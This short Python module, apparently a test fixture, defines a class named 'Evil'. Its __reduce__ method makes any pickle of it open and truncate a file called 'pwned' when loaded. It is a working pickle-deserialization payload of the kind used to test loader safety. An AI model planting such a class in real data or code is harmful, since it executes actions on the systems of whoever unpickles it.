"""A pickle that does harm where it is loaded."""

from __future__ import annotations

from typing import Any


class Evil:
    """A pickle of it writes a file when it is loaded."""

    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("pwned", "w")
